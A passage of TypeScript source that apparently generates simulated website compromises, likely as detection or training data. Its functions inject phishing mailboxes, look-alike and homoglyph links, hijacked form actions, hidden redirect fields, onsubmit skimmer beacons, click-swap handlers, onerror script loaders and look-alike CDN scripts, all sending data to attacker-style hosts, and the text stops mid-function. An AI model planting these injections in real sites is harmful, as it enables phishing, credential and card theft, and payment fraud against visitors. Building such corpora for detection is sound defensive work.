  const bank = pick(rng, ["Revolut Bank UAB", "Wise Europe SA", "N26 Bank", "bunq B.V.", "Monese", "Paysera LT", "Vivid Money", "Banca Sella", "Lunar", "Qonto"])
  const text = esc(fill(pick(rng, say(page, secondAccount)), { bank, acct }))
  const b = page.ids.bank
  return splices(lineBeside(page, b === null ? [page.ids.email, page.ids.phone.intl] : [b.value, page.ids.email], chance(rng, 0.4) ? `<strong>${text}</strong>` : text, slotAt(page.spots, "bottom")))
})

const invoiceMail: T<ReadonlyArray<string>> = {
  en: ["Invoices, remittance advice and payment confirmations should now be sent to {m}.", "Our office has a new address for enquiries and bookings: {m}.", "Parents and guardians: please send absence notes and fee receipts to {m}."],
  fr: ["Les factures, avis de paiement et justificatifs doivent désormais être envoyés à {m}.", "Notre secrétariat a une nouvelle adresse pour les demandes et réservations : {m}.", "Parents : merci d'envoyer les justificatifs d'absence et les reçus de paiement à {m}."],
  de: ["Rechnungen, Zahlungsavise und Zahlungsbestätigungen senden Sie bitte ab sofort an {m}.", "Unser Büro hat eine neue Adresse für Anfragen und Buchungen: {m}.", "Liebe Eltern: Bitte senden Sie Entschuldigungen und Zahlungsbelege an {m}."],
  es: ["Las facturas, avisos de pago y justificantes deben enviarse a partir de ahora a {m}.", "Nuestra oficina tiene una nueva dirección para consultas y reservas: {m}.", "Familias: envíen los justificantes de ausencia y los recibos de pago a {m}."],
  nl: ["Facturen, betaaladviezen en betalingsbewijzen kunt u voortaan sturen naar {m}.", "Ons kantoor heeft een nieuw adres voor vragen en reserveringen: {m}.", "Ouders en verzorgers: stuur ziekmeldingen en betaalbewijzen naar {m}."],
  pt: ["Notas fiscais, avisos de pagamento e comprovantes devem ser enviados agora para {m}.", "Nosso escritório tem um novo endereço para dúvidas e reservas: {m}.", "Pais e responsáveis: enviem justificativas de falta e comprovantes de pagamento para {m}."],
  it: ["Fatture, avvisi di pagamento e ricevute vanno ora inviati a {m}.", "Il nostro ufficio ha un nuovo indirizzo per richieste e prenotazioni: {m}.", "Genitori: inviate giustificazioni e ricevute di pagamento a {m}."]
}

// Invoice and paperwork redirection, recalled from memory of business-e-mail-compromise cases against suppliers, schools and clinics where one sentence on the site gave a "new" mailbox for invoices or paperwork (about 2017 onwards): one sentence in the site's language with a free-mail address or a mailbox on a look-alike domain, beside the contact lines or near the top.
const invoiceMailbox = fresh30("one sentence in the organisation's voice sending invoices, bookings or school paperwork to a free-mail address or a mailbox on a look-alike domain", (page, rng) => {
  const m = chance(rng, 0.55) ? freemail(rng, page) : lookalikeMail(rng, page)
  const mHtml = chance(rng, 0.6) ? `<a href="mailto:${esc(m)}">${esc(m)}</a>` : esc(m)
  const text = fill(esc(pick(rng, say(page, invoiceMail))), { m: mHtml })
  if (chance(rng, 0.6)) return splices(lineBeside(page, [page.ids.email, page.ids.phone.national], text, slotAt(page.spots, "top")))
  return splices(insert(blockSpot(rng, page), `<p class="${pick(rng, ["notice", "info", "lead", "note"])}">${text}</p>`))
})

// ———————————————————————————— links and forms ————————————————————————————

const actionRe = /(log ?in|sign ?in|account|donat|pay|shop|store|cart|checkout|subscri|contact|regist|member|portal|booking|ticket|kontakt|anmeld|spende|connexion|compte|faire un don|iniciar|cuenta|dona|inloggen|doneer|entrar|conta|doe|accedi|dona|abbonati)/i

// One link among many, recalled from memory of quiet redirects found in hacked CMS menus and footers where a single "Donate", "Login" or "Shop" link was repointed to a phishing copy on a look-alike domain (path kept so it looks right on hover, about 2015 onwards): one link whose text or address names an action sent to the same path on a look-alike of the site; else one of its own links.
const oneActionLink = fresh30("one sign-in, donate, shop, contact or account link among the page's many sent to the same path on a look-alike of the site's domain, its text unchanged", (page, rng) => {
  const all = links(page)
  const act = all.filter((a) => actionRe.test(`${a.attribs.href ?? ""} ${textOf(page, a)}`))
  const own = all.filter((a) => isOwn(page, a.attribs.href ?? ""))
  const pool = act.length > 0 && chance(rng, 0.85) ? act : own.length > 0 ? own : all
  const host = lookHost(rng, page)
  const a = pick(rng, pool)
  return splices(setAttr(page, a, "href", `https://${host}${pathOf(page, a.attribs.href ?? "/")}`))
})

// Homoglyph domains, recalled from memory of IDN homograph research (2001 onwards, Zheng's "apple.com" demonstration in 2017) and of phishing kits that link a hacked site to a Cyrillic look-alike of itself: one or two of the site's own links sent to its host with one letter of its name swapped for a Cyrillic one, written in Unicode or punycode, the path kept.
const homoglyphLinks = fresh30("one or two of the site's own links sent to its own host name with one letter swapped for a Cyrillic homoglyph (Unicode or punycode), path kept", (page, rng) => {
  const own = links(page).filter((a) => isOwn(page, a.attribs.href ?? ""))
  const pool = own.length > 0 ? own : links(page)
  const host = homoglyphHost(rng, page)
  return splices(...sample(rng, pool, between(rng, 1, 2)).map((a) => setAttr(page, a, "href", `https://${host}${pathOf(page, a.attribs.href ?? "/")}`)))
})

const submitters = (page: Page, form: El): Array<El> =>
  page.spots.elements.filter((e) => {
    if (!usable(page, e) || e.index <= form.index) return false
    const type = (e.attribs.type ?? "").toLowerCase()
    const ok = (e.name === "button" && type !== "button" && type !== "reset") || (e.name === "input" && (type === "submit" || type === "image"))
    if (!ok) return false
    for (let p = elAt(page, e.parent); p !== undefined; p = elAt(page, p.parent)) if (p.index === form.index) return true
    return false
  })
const collectorPath = (rng: Rng) => pick(rng, ["/subscribe.php", "/api/lead", "/collect", "/forms/submit", "/f/" + alnum(rng, 8), "/wp-admin/admin-ajax.php", "/in.php", "/gate.php", "/v1/submit"])

// A second action on the button, recalled from memory of form-jacking write-ups noting that HTML5's formaction overrides the form's own action and is rarely checked (about 2016 onwards): the submit button of one of the site's forms given a formaction (sometimes formmethod) on another host; the form's action is unchanged.
const submitFormaction = fresh30("submit button of one of the site's forms given a formaction (sometimes a formmethod) on another host, the form's own action left unchanged", (page, rng) => {
  const url = `https://${evilHost(rng, page)}${collectorPath(rng)}`
  const withButtons = forms(page).filter((f) => submitters(page, f).length > 0)
  if (withButtons.length > 0) {
    const f = chance(rng, 0.6) ? withButtons[0]! : pick(rng, withButtons)
    const b = pick(rng, submitters(page, f))
    const out = [setAttr(page, b, "formaction", url)]
    if (chance(rng, 0.4)) out.push(setAttr(page, b, "formmethod", "post"))
    return { splices: out }
  }
  const fs = forms(page)
  if (fs.length > 0) return splices(setAttr(page, pick(rng, fs), "action", url))
  return splices(insert(bottom(page), `<form action="${esc(url)}" method="post"><input type="email" name="email"><button type="submit" formaction="${esc(url)}">OK</button></form>`))
})

// Hidden redirect or copy fields, recalled from memory of form-backend conventions (_next, redirect_to, return_url, success_url, _cc) and of cases where an intruder added one to a site's form so that visitors landed on a phishing page after submitting, or the submissions were copied to the intruder's mailbox: one hidden input added inside one of the site's forms.
const hiddenFormField = fresh30("hidden field added inside one of the site's forms that sends visitors to another host after submitting (_next, redirect_to, return_url) or copies the submission to another mailbox (_cc, notify)", (page, rng) => {
  const fs = forms(page)
  const redirect = chance(rng, 0.6)
  const name = redirect ? pick(rng, ["_next", "redirect_to", "return_url", "success_url", "redirect", "_redirect", "returnTo", "thankyou_url"]) : pick(rng, ["_cc", "cc", "notify_email", "_replyto", "bcc", "copy_to"])
  const value = redirect ? `https://${lookHost(rng, page)}/${pick(rng, ["confirm", "verify", "thank-you", "account/confirm", "login"])}${chance(rng, 0.5) ? `?ref=${alnum(rng, 8)}` : ""}` : chance(rng, 0.5) ? freemail(rng, page) : lookalikeMail(rng, page)
  const field = `<input type="hidden" name="${name}" value="${esc(value)}">`
  if (fs.length > 0) {
    const f = chance(rng, 0.6) ? fs[0]! : pick(rng, fs)
    if (f.closeTag !== null && chance(rng, 0.5)) return splices(insert(f.closeTag.start, field))
    return splices(insert(f.openEnd, field))
  }
  return splices(insert(bottom(page), `<form action="/subscribe" method="post">${field}<input type="email" name="email"><button type="submit">OK</button></form>`))
})

// A beacon on submit, recalled from memory of Magecart-style skimmers reduced to one inline attribute (sendBeacon, fetch with no-cors, an Image ping) found on login, newsletter and donation forms (about 2018 onwards): an onsubmit handler on one of the site's forms copying its fields to another host before the normal submit.
const onsubmitBeacon = fresh30("inline onsubmit handler on one of the site's forms copying its fields to another host (sendBeacon, fetch no-cors or an Image ping) before the normal submit", (page, rng) => {
  const host = evilHost(rng, page)
  const path = pick(rng, ["/c", "/b", "/log", "/api/t", "/p.gif", "/collect", "/s/" + alnum(rng, 6)])
  const code = pick(rng, [
    `navigator.sendBeacon('https://${host}${path}',new FormData(this))`,
    `fetch('https://${host}${path}',{method:'POST',mode:'no-cors',body:new FormData(this)})`,
    `new Image().src='https://${host}${path}?d='+encodeURIComponent(new URLSearchParams(new FormData(this)))`,
    `try{navigator.sendBeacon('//${host}${path}',JSON.stringify(Object.fromEntries(new FormData(this))))}catch(e){}`
  ])
  const fs = forms(page)
  if (fs.length > 0) {
    const f = chance(rng, 0.6) ? fs[0]! : pick(rng, fs)
    const old = (f.attribs.onsubmit ?? "").trim()
    return splices(setAttr(page, f, "onsubmit", old === "" ? code : `${code};${old}`))
  }
  return splices(insert(bottom(page), `<form action="/subscribe" method="post" onsubmit="${esc(code)}"><input type="email" name="email"><button type="submit">OK</button></form>`))
})

// Hyperlink auditing, recalled from memory of the HTML ping attribute (browsers POST to the listed URLs when a link is followed; enabled in Chromium and Safari) and of its abuse for click tracking and DDoS (Imperva, 2019): a ping attribute to another host added to many of the site's links, addresses unchanged.
const pingLinks = fresh30("ping attribute (hyperlink auditing) to another host added to many of the site's links, so every click is reported there, addresses unchanged", (page, rng) => {
  const all = links(page).filter((a) => a.attribs.ping === undefined)
  const host = evilHost(rng, page)
  const url = `https://${host}${pick(rng, ["/ping", "/p", "/track", "/hit", "/c"])}${chance(rng, 0.5) ? `?s=${alnum(rng, 6)}` : ""}`
  const chosen = sample(rng, all, Math.min(80, Math.max(1, Math.round(all.length * (0.3 + 0.7 * rng())))))
  if (chosen.length === 0) return splices(insert(bottom(page), `<a href="/" ping="${esc(url)}">${esc(brandName(page))}</a>`))
  return splices(...chosen.map((a) => setAttr(page, a, "ping", url)))
})

// Swap at the click, recalled from memory of ad-fraud and affiliate-hijack scripts that rewrite a link's address in its mousedown handler (the status bar shows the real link on hover; the click goes elsewhere), seen inline on hacked WordPress sites: an onmousedown handler on several of the site's links that routes the click through another host.
const mousedownSwap = fresh30("onmousedown handler on several of the site's links that swaps the address for a redirect through another host at the moment of the click (the address shown on hover unchanged)", (page, rng) => {
  const host = evilHost(rng, page)
  const all = links(page)
  const chosen = sample(rng, all, between(rng, 2, 12))
  const code = pick(rng, [
    `this.href='https://${host}/r?u='+encodeURIComponent(this.href)`,
    `this.href='https://${host}/go/${alnum(rng, 6)}'`,
    `this.href='//${host}/?${pick(rng, ["to", "url", "d", "l"])}='+btoa(this.href)`,
    `if(!this.dataset.x){this.dataset.x=1;this.href='https://${host}/click?id=${digits(rng, 5)}&dest='+escape(this.href)}`
  ])
  if (chosen.length === 0) return splices(insert(bottom(page), `<a href="/" onmousedown="${esc(code)}">${esc(brandName(page))}</a>`))
  return splices(...chosen.map((a) => setAttr(page, a, "onmousedown", code)))
})

const docRe = /\.(pdf|docx?|xlsx?|pptx?|zip|rar|7z|exe|msi|dmg|apk|odt|ods|rtf|csv)(\?|#|$)/i
const docWords: T<ReadonlyArray<string>> = {
  en: ["our brochure", "our annual report", "the price list", "the application form", "the timetable", "the menu"],
  fr: ["notre brochure", "notre rapport annuel", "la liste des tarifs", "le formulaire d'inscription", "les horaires", "la carte"],
  de: ["unsere Broschüre", "unseren Jahresbericht", "die Preisliste", "das Anmeldeformular", "den Fahrplan", "die Speisekarte"],
  es: ["nuestro folleto", "nuestra memoria anual", "la lista de precios", "el formulario de inscripción", "el horario", "la carta"],
  nl: ["onze brochure", "ons jaarverslag", "de prijslijst", "het aanmeldformulier", "de dienstregeling", "de menukaart"],
  pt: ["nosso folheto", "nosso relatório anual", "a tabela de preços", "a ficha de inscrição", "os horários", "o cardápio"],
  it: ["la nostra brochure", "il nostro bilancio annuale", "il listino prezzi", "il modulo di iscrizione", "gli orari", "il menù"]
}
const downloadWord: T<string> = { en: "Download", fr: "Télécharger", de: "Herunterladen:", es: "Descargar", nl: "Download", pt: "Baixar", it: "Scarica" }

// One document, same name, another host, recalled from memory of malware-distribution cases where a hacked site's PDF or installer link was repointed to a same-named file elsewhere (about 2014 onwards): one document or download link sent to a file of the same name on another host; with none on the page, a short download line in the site's language to such a file.
const fileLinkElsewhere = fresh30("one document or download link (PDF, Office file, archive, installer) sent to a file of the same name on another host, or a short download line to such a file", (page, rng) => {
  const host = evilHost(rng, page)
  const dir = pick(rng, ["/files", "/docs", "/download", "/wp-content/uploads/" + between(rng, 2023, 2026) + "/" + String(between(rng, 1, 12)).padStart(2, "0"), "/d/" + alnum(rng, 10), "/media"])
  const docs = links(page).filter((a) => docRe.test(a.attribs.href ?? ""))
  if (docs.length > 0) {
    const a = pick(rng, docs)
    return splices(setAttr(page, a, "href", `https://${host}${dir}/${fileOf(page, a.attribs.href ?? "", "document.pdf")}`))
  }
  const what = pick(rng, say(page, docWords))
  const file = `${slug(`${bare(page)} ${what}`).slice(0, 40)}.${pick(rng, ["pdf", "pdf", "zip", "docx"])}`
  const html = `${esc(say(page, downloadWord))} <a href="https://${host}${dir}/${file}">${esc(what)}</a> (${file.split(".").pop()!.toUpperCase()}, ${between(rng, 1, 9)}${pick(rng, [".", ","])}${between(rng, 1, 9)} MB)`
  return splices(lineBeside(page, [page.ids.email], html, anySlot(rng, page.spots)))
})

// ———————————————————————————— resources and the head ————————————————————————————

// One picture from another host, recalled from memory of hot-linked image swaps (a logo replaced by a modified copy, a product photo by one with other payment details) whose file kept its name: one of the site's pictures (its logo first) loaded from another host, its lazy-load and srcset attributes following, alt text kept.
const pictureElsewhere = fresh30("one of the site's pictures (its logo first) loaded from a file of the same name on another host, lazy-load and srcset attributes following, alt text kept", (page, rng) => {
  const all = imgs(page)
  if (all.length === 0) return splices(insert(top(page), `<p><img src="https://${evilHost(rng, page)}/img/logo.png" alt="${esc(brandName(page))}"></p>`))
  const logos = all.filter((e) => /logo|brand|masthead/i.test(`${e.attribs.src ?? ""} ${e.attribs.alt ?? ""} ${e.attribs.class ?? ""} ${e.attribs.id ?? ""}`))
  const el = logos.length > 0 && chance(rng, 0.7) ? pick(rng, logos) : pick(rng, all)
  const host = evilHost(rng, page)
  const dir = pick(rng, ["/img", "/images", "/i", "/media", "/uploads", "/static/img", "/cdn/" + alnum(rng, 4)])
  const url = `https://${host}${dir}/${fileOf(page, el.attribs.src ?? "", "image.jpg")}`
  const out = [setAttr(page, el, "src", url)]
  for (const a of attrSpans(page.html, el)) {
    if (a.value === null) continue
    if (a.name === "srcset") out.push(replace(a.value, esc(url)))
    else if (/^data-(src|lazy-src|original|large-src|srcset)$/.test(a.name)) out.push(replace(a.value, esc(url)))
  }
  return { splices: out }
})

const urlish = /^\s*(https?:)?\/\/|^\s*\/[^/]/i

// A data-* address, recalled from memory of injections into lazy-load and widget attributes (data-src, data-href, data-url) that a site's own script then loads or opens, so the tag's src and the visible page stay the same: one element's data-* URL pointed at another host (same path); without one, a lazy-load data-src added to a picture.
const dataUrlElsewhere = fresh30("one element's data-* address (data-src, data-href, data-url, data-main...) pointed at the same path on another host, or a lazy-load data-src from another host added to a picture", (page, rng) => {
  const host = evilHost(rng, page)
  const cands = page.spots.elements.filter((e) => usable(page, e) && (e.inBody || e.inHead || e.name === "script")).flatMap((e) =>
    attrSpans(page.html, e).filter((a) => a.name.startsWith("data-") && a.value !== null && urlish.test(e.attribs[a.name] ?? "")).map((a) => ({ e, a })))
  if (cands.length > 0) {
    const { e, a } = pick(rng, cands)
    return splices(replace(a.value!, esc(`https://${host}${pathOf(page, e.attribs[a.name] ?? "/")}`)))
  }
  const all = imgs(page)
  if (all.length > 0) {
    const el = pick(rng, all)
    return splices(setAttr(page, el, pick(rng, ["data-src", "data-lazy-src", "data-original"]), `https://${host}/img/${fileOf(page, el.attribs.src ?? "", "photo.jpg")}`))
  }
  return splices(insert(top(page), `<div data-src="https://${host}/w.js" data-widget="${alnum(rng, 6)}"></div>`))
})

// High-density candidates, recalled from memory of srcset's selection rules (a browser on a 2x screen picks the 2x candidate, so desktop reviewers on 1x screens never see it): one of the site's pictures given a 2x (or wide w) candidate on another host, src unchanged.
const srcsetHiDpi = fresh30("high-density srcset candidate (2x, 3x or a wide w descriptor) on another host added to one of the site's pictures, src unchanged", (page, rng) => {
  const all = imgs(page)
  const host = evilHost(rng, page)
  if (all.length === 0) return splices(insert(top(page), `<p><img src="/logo.png" srcset="/logo.png 1x, https://${host}/logo@2x.png 2x" alt=""></p>`))
  const el = pick(rng, all)
  const name = fileOf(page, el.attribs.src ?? "", "image.jpg").replace(/(\.[a-z0-9]+)$/i, `${pick(rng, ["@2x", "-2x", "_hd", "-retina", "@3x"])}$1`)
  const url = `https://${host}${pick(rng, ["/img", "/images", "/hd", "/media"])}/${name}`
  const old = (el.attribs.srcset ?? "").trim()
  if (old !== "") return splices(setAttr(page, el, "srcset", `${old}, ${url} ${/\d+w\s*(,|$)/.test(old) ? pick(rng, ["2400w", "3000w", "4096w"]) : pick(rng, ["2x", "3x"])}`))
  const src = (el.attribs.src ?? "").trim()
  return splices(setAttr(page, el, "srcset", chance(rng, 0.6) ? `${src} 1x, ${url} ${pick(rng, ["2x", "1.5x", "3x"])}` : `${src} 1x, ${url} 2x, ${url} 3x`))
})

// A script named like the site's own, recalled from memory of skimmer and loader injections that reuse the file name of a script the site already loads (main.js, jquery.min.js) on a look-alike of its domain so a glance at the source passes (about 2018 onwards): one script tag with async, defer or type=module.
const ownNamedScript = fresh30("one script tag loading a file named like one of the site's own scripts from a look-alike of the site's domain (async, defer or module), at the end of the head or the body", (page, rng) => {
  const own = page.spots.elements.filter((e) => e.name === "script" && usable(page, e) && (e.attribs.src ?? "").trim() !== "" && isOwn(page, e.attribs.src ?? ""))
  const path = own.length > 0 && chance(rng, 0.8) ? (resolve(page, pick(rng, own).attribs.src ?? "")?.pathname ?? scriptPath(rng)) : scriptPath(rng)
  const attrs = pick(rng, [" async", " defer", ` type="module"`, ` type="text/javascript" async`, ""])
  const tag = `<script src="https://${lookHost(rng, page)}${path}${chance(rng, 0.4) ? `?v=${digits(rng, pick(rng, [3, 8, 10]))}` : ""}"${attrs}></script>`
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), bottom(page)]), tag))
})

// A library host twisted, recalled from memory of supply-chain look-alikes of CDN hosts and of subresource-integrity advice (an integrity attribute stops a swapped file, so the intruder removes it): one third-party script tag pointed at a look-alike of its own host, same path, its integrity attribute dropped if it had one.
const cdnHostTwisted = fresh30("one third-party script tag pointed at a look-alike of its own CDN host with the same path, any integrity attribute dropped", (page, rng) => {
  const ext = page.spots.elements.filter((e) => e.name === "script" && usable(page, e) && /^\s*(https?:)?\/\//i.test(e.attribs.src ?? "") && !isOwn(page, e.attribs.src ?? ""))
  if (ext.length === 0) {
    const h = hostTwist(rng, pick(rng, ["ajax.googleapis.com", "code.jquery.com", "cdnjs.cloudflare.com", "cdn.jsdelivr.net"]))
    return splices(insert(head(page), `<script src="https://${h}/ajax/libs/jquery/${pick(rng, ["3.6.0", "3.7.1", "1.12.4"])}/jquery.min.js"></script>`))
  }
  const el = pick(rng, ext)
  const src = el.attribs.src ?? ""
  const u = resolve(page, src)
  const host = u === null ? "cdn.example.com" : u.hostname
  const next = `${/^\s*\/\//.test(src) ? "//" : "https://"}${hostTwist(rng, host)}${u === null ? "/" : u.pathname + u.search}`
  const out = [setAttr(page, el, "src", next)]
  for (const a of attrSpans(page.html, el)) if (a.name === "integrity") out.push(replace({ start: a.start, end: a.end }, ""))
  return { splices: out }
})

// A stylesheet from elsewhere, recalled from memory of CSS injection research (overlays drawn with ::before, attribute-selector exfiltration, hidden elements shown) and of defacements done with one linked stylesheet: an extra stylesheet link, named like one of the site's own or a common name, from another host, after the site's stylesheets.
const foreignStylesheet = fresh30("extra stylesheet link from another host, named like one of the site's own stylesheets or a common name, placed after the site's stylesheets", (page, rng) => {
  const sheets = page.spots.elements.filter((e) => e.name === "link" && usable(page, e) && rels(e).includes("stylesheet") && !e.inBody)
  const name = sheets.length > 0 && chance(rng, 0.7) ? fileOf(page, pick(rng, sheets).attribs.href ?? "", "style.css") : pick(rng, ["style.css", "main.css", "theme.min.css", "custom.css", "fonts.css", "print.css", "app.css"])
  const url = `https://${evilHost(rng, page)}${pick(rng, ["/css", "/assets/css", "/static", "/wp-content/themes/" + bare(page), ""])}/${name}`
  const tag = `<link rel="stylesheet" href="${esc(url)}"${chance(rng, 0.3) ? ` media="all"` : ""}${chance(rng, 0.3) ? ` crossorigin="anonymous"` : ""}>`
  const at = sheets.length > 0 ? sheets[sheets.length - 1]!.openEnd : head(page)
  return splices(insert(chance(rng, 0.7) ? at : head(page), tag))
})

// Canonical, og:url and shortlink, recalled from memory of SEO hijacks that only edit the head so that search engines and share previews credit a look-alike copy of the site: the page's canonical link, og:url and shortlink pointed at the same path on a look-alike; a canonical added where there is none.
const canonicalLookalike = fresh30("canonical link, og:url and shortlink pointed at the same path on a look-alike of the site's domain (a canonical added where there is none), nothing visible changed", (page, rng) => {
  const host = lookHost(rng, page)
  const out: Array<Splice> = []
  for (const e of page.spots.elements) {
    if (!usable(page, e) || e.inBody) continue
    if (e.name === "link" && rels(e).some((r) => r === "canonical" || r === "shortlink" || r === "shorturl") && e.attribs.href !== undefined) out.push(setAttr(page, e, "href", `https://${host}${pathOf(page, e.attribs.href)}`))
    else if (e.name === "meta" && /^(og:url|twitter:url)$/.test(e.attribs.property ?? e.attribs.name ?? "") && e.attribs.content !== undefined && chance(rng, 0.8)) out.push(setAttr(page, e, "content", `https://${host}${pathOf(page, e.attribs.content)}`))
  }
  if (out.length > 0) return { splices: out }
  return splices(insert(head(page), `<link rel="canonical" href="https://${host}${new URL(page.site.url).pathname}">`))
})

// Alternates, recalled from memory of hreflang and feed hijacks (search engines and feed readers follow rel=alternate to the "other language" or the feed) seen in SEO-spam cases: the page's alternate links (feeds, other languages, mobile, AMP) pointed at the same paths on a look-alike; without any, one hreflang or AMP alternate added.
const alternateLookalike = fresh30("page's alternate links (feeds, other languages, mobile, AMP) pointed at the same paths on a look-alike of its domain, or one hreflang or AMP alternate to it added", (page, rng) => {
  const host = lookHost(rng, page)
  const alts = page.spots.elements.filter((e) => e.name === "link" && usable(page, e) && rels(e).some((r) => r === "alternate" || r === "amphtml") && !rels(e).includes("stylesheet") && (e.attribs.href ?? "") !== "")
  if (alts.length > 0) return splices(...sample(rng, alts, between(rng, 1, alts.length)).map((e) => setAttr(page, e, "href", `https://${host}${pathOf(page, e.attribs.href ?? "/")}`)))
  const path = new URL(page.site.url).pathname
  const tag = chance(rng, 0.5)
    ? `<link rel="alternate" hreflang="${pick(rng, ["en", "de", "fr", "es", "x-default", "en-gb", "pt-br"])}" href="https://${host}${path}">`
    : `<link rel="amphtml" href="https://${host}${path.replace(/\/?$/, "/amp/")}">`
  return splices(insert(pick(rng, [head(page), headStart(page)]), tag))
})

// A base element, recalled from memory of base-tag hijacking (a base element changes where every relative link, form action and picture resolves) used against CMS templates: a base element to the same path on a look-alike put first in the head (or the page's own base changed).
const baseFirstInHead = fresh30("base element pointing at a copy of the site on a look-alike domain put first in the head (or the page's own base changed), so relative links, forms and pictures resolve there", (page, rng) => {
  const host = lookHost(rng, page)
  const dir = new URL(page.site.url).pathname.replace(/[^/]*$/, "")
  const url = `https://${host}${chance(rng, 0.6) ? "/" : dir}`
  const bases = page.spots.elements.filter((e) => e.name === "base" && usable(page, e) && e.attribs.href !== undefined)
  if (bases.length > 0) return splices(setAttr(page, bases[0]!, "href", url))
  return splices(insert(headStart(page), `<base href="${esc(url)}"${chance(rng, 0.25) ? ` target="_self"` : ""}>`))
})

// A delayed refresh, recalled from memory of quiet redirects through meta refresh with a long delay so that a visitor reading the page (or a reviewer glancing at it) does not see it jump: a meta refresh in the head after half a minute to a few minutes to a look-alike or another host.
const delayedRefresh = fresh30("meta refresh in the head after half a minute to several minutes to a look-alike of the site or another host", (page, rng) => {
  const delay = pick(rng, [30, 45, 60, 90, 120, 180, 300, 600])
  const url = chance(rng, 0.6) ? `https://${lookHost(rng, page)}${new URL(page.site.url).pathname}` : `https://${evilHost(rng, page)}/${pick(rng, ["", "?r=" + alnum(rng, 6), "go/" + alnum(rng, 5)])}`
  const content = pick(rng, [`${delay};url=${url}`, `${delay}; URL=${url}`, `${delay};URL='${url}'`])
  return splices(insert(pick(rng, [head(page), headStart(page)]), `<meta http-equiv="${pick(rng, ["refresh", "Refresh"])}" content="${esc(content)}">`))
})

// Icons and manifest, recalled from memory of web-app-manifest abuse (an installed site's start page and icons come from the manifest) and of favicon hot-links used as beacons: the site's icon links moved to the same file names on a look-alike, plus a manifest link there; icons and manifest added where there are none.
const iconsManifestLookalike = fresh30("site's icon links (favicon, touch icons) moved to the same file names on a look-alike of its domain, with a web-app manifest from there", (page, rng) => {
  const host = lookHost(rng, page)
  const icons = page.spots.elements.filter((e) => e.name === "link" && usable(page, e) && !e.inBody && rels(e).some((r) => /icon/.test(r)) && (e.attribs.href ?? "") !== "")
  const out: Array<Splice> = icons.map((e) => setAttr(page, e, "href", `https://${host}${pathOf(page, e.attribs.href ?? "/favicon.ico")}`))
  if (out.length === 0 || chance(rng, 0.6)) {
    out.push(insert(head(page), `${out.length === 0 ? `<link rel="icon" href="https://${host}/favicon.ico">` : ""}<link rel="manifest" href="https://${host}/${pick(rng, ["manifest.json", "site.webmanifest", "manifest.webmanifest"])}">`))
  }
  return { splices: out }
})

// A tag that is only an image, recalled from memory of tiny loaders injected into posts and widgets as a broken image whose onerror runs the code (it survives filters that strip script elements): one invisible image with an onerror handler loading a script from another host.
const onerrorLoader = fresh30("invisible broken picture whose onerror handler loads a script from another host (one tiny tag in the body, no script element)", (page, rng) => {
  const host = evilHost(rng, page)
  const code = pick(rng, [
    `var s=document.createElement('script');s.src='https://${host}/${alnum(rng, 6)}.js';document.head.appendChild(s)`,
    `import('https://${host}/m/${alnum(rng, 5)}.js')`,
    `this.remove();fetch('https://${host}/j').then(function(r){return r.text()}).then(eval)`,
    `(document.body||document.documentElement).appendChild(document.createElement('script')).src='//${host}/${scriptPath(rng).replace(/^\//, "")}'`
  ])
  const hide = pick(rng, [` style="display:none"`, ` width="1" height="1" style="position:absolute;left:-99px"`, ` hidden`, ` style="opacity:0;width:0;height:0"`])
  const src = pick(rng, ["x", "data:,", "#", "/null.gif", "about:blank"])
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), `<img src="${src}"${hide} alt="" onerror="${esc(code)}">`))
})

/** The contact block as published (or the line holding the phone), with an explicit close tag. */
const contactBlock = (page: Page): El | undefined => {
  const block = page.spots.elements.find((e) => e.shown && e.closeTag !== null && (/(^|\s)(site-contact|contact-box|footer-contact)(\s|$)/.test(e.attribs.class ?? "") || e.attribs.id === "contact-us"))
  if (block !== undefined) return block
  const run = page.spots.texts.find((t) => t.text.includes(page.ids.phone.national) || t.text.includes(page.ids.email))
  for (let e = run === undefined ? undefined : elAt(page, run.parent); e !== undefined; e = elAt(page, e.parent)) if (/^(p|li|dd|tr|div)$/.test(e.name) && e.closeTag !== null) return e
  return undefined
}

// Off-screen original, on-screen copy, recalled from memory of payment-page tampering where the real block was kept in the markup (so a diff of the text still finds it) but pushed off-screen, and a copy with other details took its place: the contact block moved off-screen by an inline style and a copy with another phone number and e-mail put before or after it.
const offscreenContact = fresh30("contact block moved off-screen by an inline style (absolute left:-9999px, clip, translate) and a copy with another phone number and e-mail put in its place", (page, rng) => {
  const el = contactBlock(page)
  const p = page.ids.phone
  const np = swapPhone(page.site.locale, p, rng)
  const mail = chance(rng, 0.5) ? freemail(rng, page) : lookalikeMail(rng, page)
  const off = pick(rng, ["position:absolute;left:-9999px;top:auto", "position:absolute;top:-10000px;left:0", "position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0);clip-path:inset(50%)", "position:fixed;left:-200vw", "transform:translateX(-300vw);position:absolute"])
  if (el === undefined || el.closeTag === null) {
    return splices(insert(slotAt(page.spots, "bottom"), `<p>${esc(page.site.words.phone)}: ${esc(np.national)} · ${esc(page.site.words.email)}: ${esc(mail)}</p>`))
  }
  const original = page.html.slice(el.start, el.closeTag.end)
  const copy = original
    .split(p.tel).join(np.tel)
    .split(p.intl).join(np.intl)
    .split(p.national).join(np.national)
    .split(page.ids.email).join(mail)
    .replace(/^(<\w+[^>]*?)\s+id="[^"]*"/, "$1")
  return splices(addStyle(page, el, off), insert(chance(rng, 0.7) ? el.start : el.closeTag.end, copy))
})

// ———————————————————————————— loud, written in unusual ways ————————————————————————————

const message = (rng: Rng): string => {
  const who = chance(rng, 0.5) ? nick(rng) : team(rng)
  return pick(rng, [
    () => `${signature(rng, who).text}\n${boast(rng).text}`,
    () => `${political(rng).text}\n— ${who}`,
    () => boast(rng).text,
    () => `${signature(rng, who).text}`
  ])()
}

// An overlay made of CSS alone, recalled from memory of defacements done through a theme's "custom CSS" setting (no markup could be added, so the message went into ::before content): a style rule drawing the message over the window with generated content, no new element in the body.
const cssOnlyOverlay = fresh30("message drawn over the window with CSS generated content only (body::before or html::after content in a style block), no element added to the body", (page, rng) => {
  const pseudo = pick(rng, ["body::before", "body::after", "html::after", "body>*:first-child::before"])
  const full = chance(rng, 0.6)
  const bg = pick(rng, ["#000", "#111", "#8b0000", "#fff", "#0b3d0b", "rgba(0,0,0,.92)"])
  const fg = bg === "#fff" ? pick(rng, ["#000", "#c00"]) : pick(rng, ["#0f0", "#fff", "#ff0", "#f33"])
